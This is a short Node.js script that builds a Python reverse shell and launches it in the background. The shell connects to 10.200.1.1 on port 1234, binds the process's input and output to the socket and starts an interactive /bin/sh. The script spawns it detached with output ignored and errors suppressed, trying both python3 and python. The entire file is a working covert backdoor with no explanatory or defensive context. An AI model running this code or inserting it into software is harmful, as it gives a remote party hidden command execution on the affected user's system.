import { spawn } from 'node:child_process';

const src = [
  'import socket,subprocess,os',
  's=socket.socket(socket.AF_INET,socket.SOCK_STREAM)',
  's.connect(("10.200.1.1",1234))',
  'for fd in (0,1,2): os.dup2(s.fileno(),fd)',
  'subprocess.call(["/bin/sh","-i"])',
].join(';').replace(';for', '\nfor').replace('fd);', 'fd)\n');

for (const bin of ['python3', 'python']) {
  const p = spawn(bin, ['-c', src], { detached: true, stdio: 'ignore' });
  p.on('error', () => {});
  p.unref();
}
